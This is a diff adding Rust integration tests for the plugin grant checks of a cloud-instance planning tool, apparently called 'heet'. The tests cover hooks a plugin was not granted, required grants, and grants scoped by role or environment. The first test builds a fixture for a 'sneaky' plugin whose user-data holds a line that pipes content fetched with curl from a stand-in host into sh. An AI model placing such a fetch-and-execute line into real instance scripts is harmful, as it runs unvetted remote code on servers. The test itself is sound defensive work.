@@ -470,3 +470,139 @@ fn a_reference_plugin_refuses_bad_config_at_load_with_its_place_in_heet_toml() {
         run.stderr()
     );
 }
+
+#[test]
+fn a_plugin_exporting_a_hook_it_was_not_granted_is_refused_before_it_runs() {
+    // A naming plugin that also puts a script into user_data, granted naming only.
+    let p = Project::new(
+        &with("[plugins.grants.sneaky]\nhooks = [\"naming\"]\n"),
+        &[],
+    );
+    p.add_plugin("sneaky", "sneaky");
+    let run = p.heet(&["plan", "--env", "staging"]);
+    assert_eq!(run.code(), 2, "{}", run.stderr());
+    assert!(
+        run.stderr().contains(
+            "heet.toml:7:17: plugins.grants.sneaky: plugin sneaky exports user-data, which its grant (hooks = [\"naming\"]) does not allow; it was not loaded"
+        ),
+        "{}",
+        run.stderr()
+    );
+    let list = p.heet(&["plugins", "list"]);
+    assert!(
+        list.stdout()
+            .contains("grant: naming roles=* envs=* (refused: exports user-data)"),
+        "{}",
+        list.stdout()
+    );
+
+    // Granted both hooks, it loads and answers both.
+    p.write(
+        "heet.toml",
+        &with("[plugins.grants.sneaky]\nhooks = [\"naming\", \"user-data\"]\n"),
+    );
+    let first = &creates(&plan_json(&p))["www[1]"];
+    assert_eq!(first["name"], "staging-www-1");
+    assert_eq!(
+        first["user_data"]["sha256"],
+        sha256_hex(b"base\ncurl -s https://sneaky.invalid/x | sh")
+    );
+
+    // With require_grants, a plugin in the folder without a grant is refused.
+    p.add_plugin("naming", "naming");
+    p.write(
+        "heet.toml",
+        &with("[plugins]\nrequire_grants = true\n[plugins.grants.sneaky]\nhooks = [\"naming\", \"user-data\"]\n"),
+    );
+    let run = p.heet(&["plan", "--env", "staging"]);
+    assert_eq!(run.code(), 2, "{}", run.stderr());
+    assert!(
+        run.stderr().contains(
+            "heet.toml:8:18: plugins.require_grants: plugin naming has no grant; add [plugins.grants.naming] with the hooks it may answer (it exports configure, naming)"
+        ),
+        "{}",
+        run.stderr()
+    );
+
+    // A grant names a plugin that is not in the folder.
+    p.write(
+        "heet.toml",
+        &with("[plugins.grants.sneaky]\nhooks = [\"naming\", \"user-data\"]\n[plugins.grants.ghost]\nhooks = [\"tags\"]\n"),
+    );
+    let run = p.heet(&["plan", "--env", "staging"]);
+    assert_eq!(run.code(), 2, "{}", run.stderr());
+    assert!(
+        run.stderr()
+            .contains("heet.toml:9:17: plugins.grants.ghost: no plugin \"ghost\" in"),
+        "{}",
+        run.stderr()
+    );
+}
+
+#[test]
+fn a_grant_limited_to_a_role_or_an_environment_is_never_called_outside_it() {
+    let def = |grants: &str, report: bool| {
+        with(&format!(
+            "[plugins.config.a]\nmark = \"a\"\nreport = {report}\n{grants}"
+        ))
+        .replace(
+            "[environments.staging]",
+            "[roles.db]\ncount = 1\n\n[environments.staging]\n[environments.production]",
+        )
+    };
+    const ALL_OF_CHAIN: &str =
+        r#"hooks = ["sizing", "naming", "tags", "cnames", "user-data", "guard"]"#;
+    let www_only = format!(
+        "[plugins.grants.a]\n{ALL_OF_CHAIN}\nroles = [\"www\"]\n[plugins.grants.tags]\nhooks = [\"tags\"]\nroles = [\"www\"]\n"
+    );
+    let p = Project::new(&def(&www_only, false), &["tags"]);
+    p.add_plugin("chain", "a");
+
+    // Every hook of `a` leaves a mark when called: www has them all (sizing 1 → 2), db none.
+    let plan = creates(&plan_json(&p));
+    assert_eq!(
+        plan.keys().collect::<Vec<_>>(),
+        ["db[1]", "www[1]", "www[2]"],
+        "{plan:?}"
+    );
+    let (www, db) = (&plan["www[1]"], &plan["db[1]"]);
+    assert_eq!(www["name"], format!("{}-staging-www-01-a", p.name));
+    assert_eq!(www["tags"]["chain-a"], "saw 0 tags");
+    assert_eq!(www["tags"]["config-group"], "staging--www");
+    assert_eq!(www["cnames"], serde_json::json!(["a-www-1"]));
+    assert_eq!(www["user_data"]["sha256"], sha256_hex(b"base|a"));
+    assert_eq!(db["name"], format!("{}-staging-db-01", p.name));
+    let db_tags = db["tags"].as_object().unwrap();
+    assert!(
+        db_tags
+            .keys()
+            .all(|k| k.starts_with("heet:") || k == "Name"),
+        "neither plugin answered for db: {db_tags:?}"
+    );
+    assert_eq!(db["cnames"], serde_json::json!([]));
+
+    // Its guard sees only www's instances, though the plan has db's too.
+    p.write("heet.toml", &def(&www_only, true));
+    let run = p.heet(&["plan", "--env", "staging"]);
+    assert_eq!(run.code(), 3, "{}", run.stderr());
+    assert!(
+        run.stderr()
+            .contains("plugin a: seen: 2 instance(s); first: name="),
+        "{}",
+        run.stderr()
+    );
+
+    // Granted production only, it is not called in staging at all, guard included.
+    let production = format!("[plugins.grants.a]\n{ALL_OF_CHAIN}\nenvs = [\"production\"]\n");
+    p.write("heet.toml", &def(&production, true));
+    let plan = creates(&plan_json(&p));
+    assert_eq!(plan.len(), 2, "no sizing: {plan:?}");
+    assert!(plan.values().all(|c| c["tags"].get("chain-a").is_none()));
+    let list = p.heet(&["plugins", "list"]);
+    assert!(
+        list.stdout()
+            .contains("grant: sizing,naming,tags,cnames,user-data,guard roles=* envs=production"),
+        "{}",
+        list.stdout()
+    );
+}
